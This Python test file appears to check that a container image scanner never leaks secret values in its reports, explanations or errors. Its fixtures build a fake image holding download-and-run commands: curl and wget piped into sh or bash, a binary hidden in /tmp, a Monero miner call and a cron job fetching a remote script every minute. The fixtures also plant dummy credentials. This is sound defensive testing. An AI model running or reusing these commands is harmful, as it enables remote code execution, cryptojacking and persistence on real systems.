"""No output shows the value of a secret: not where it is reported, and not where something else quotes the same line."""
import json

import support
from support import hullcheck

# Put together here, so that no file of these sources holds one.
VALUES = {name: "Zq7" + tail for name, tail in {
    "variable": "kT4-uWv9x", "address": "mB2nR8sL", "history": "pL5-cD3fG", "argument": "hJ6kM1wE", "label": "vN8bX4rY",
    "user": "aS3dF7gH", "fetch": "yU2iO5pA", "header": "eR9tY3uI0oP6", "pool": "wX1cV8bN", "cron": "qA4zW7sX",
    "command": "gT6yH2nJ"}.items()}
SCRIPT = f"""#!/bin/sh
curl -s -u admin:{VALUES['user']} http://198.51.100.7/x.sh | sh
wget https://u:{VALUES['fetch']}@203.0.113.9/a -O /tmp/.a && chmod +x /tmp/.a && /tmp/.a
wget -q --header 'Authorization: Bearer {VALUES['header']}' -O- http://198.51.100.8/q | bash
/usr/bin/worker -o stratum+tcp://pool.example.com:3333 -u name --coin monero -p {VALUES['pool']}
"""
CONFIG = {
    "Env": ["PATH=/usr/bin", f"DB_PASSWORD={VALUES['variable']}",
            f"DATABASE_URL=postgres://app:{VALUES['address']}@db.example.com/x"],
    "Labels": {"deploy.password": VALUES["label"]}, "Entrypoint": ["/entry.sh"],
    "Cmd": ["sh", "-c", f"curl --token={VALUES['command']} http://198.51.100.9/z | sh"]}
HISTORY = [{"created_by": f"/bin/sh -c #(nop)  ENV ADMIN_PASSWORD={VALUES['history']}", "empty_layer": True},
           {"created_by": f"RUN /bin/sh -c mysql --password={VALUES['argument']} -e x"}]


def shown(text):
    return [name for name, value in VALUES.items() if value in text]


def image():
    files = {"entry.sh": (SCRIPT, 0o755),
             "etc/cron.d/x": f"* * * * * root curl -u c:{VALUES['cron']} http://198.51.100.7/c | sh\n"}
    return support.docker_archive(support.scratch() / "secrets.tar", [support.layer(files)], CONFIG, history=HISTORY)


def no_format_shows_a_value():
    for form in ("terminal", "json", "sarif", "spdx", "cyclonedx", "openvex"):
        found = hullcheck("image", image(), "--offline", "--format", form, "--show-suppressed")
        assert found.out, found
        assert not shown(found.out + found.err), (form, shown(found.out + found.err))


def no_explanation_shows_a_value():
    cache = support.scratch() / "explained"
    report = hullcheck("image", image(), "--offline", "--format", "json", cache=cache).json
    findings = [one for kind in ("threats", "secrets", "checks", "warnings") for one in report[kind]]
    assert {"D01", "M06", "secret-env"} <= {one["rule"] for one in findings}, [one["rule"] for one in findings]
    for one in findings:
        said = hullcheck("explain", one["id"], cache=cache)
        assert said.code == 0 and not shown(said.out), (one["rule"], shown(said.out))


def judged_again_the_report_is_the_same():
    facts = support.scratch() / "facts"
    scanned = hullcheck("image", image(), "--offline", "--format", "json", "--deterministic", "--save-facts", facts)
    judged = hullcheck("judge", facts, "--format", "json", "--deterministic")
    assert json.loads(scanned.out) == json.loads(judged.out)
    # They hold the configuration as it is, for rules that come later: nobody else may read them.
    assert facts.stat().st_mode & 0o077 == 0, oct(facts.stat().st_mode)


def no_error_shows_a_password_of_an_address():
    found = hullcheck("image", f"registry:https://me:{VALUES['fetch']}@localhost:1/a/b:1", "--insecure")
    assert found.code == 3 and "localhost" in found.err and not shown(found.err), found


if __name__ == "__main__":
    support.run(no_format_shows_a_value, no_explanation_shows_a_value, judged_again_the_report_is_the_same,
                no_error_shows_a_password_of_an_address)
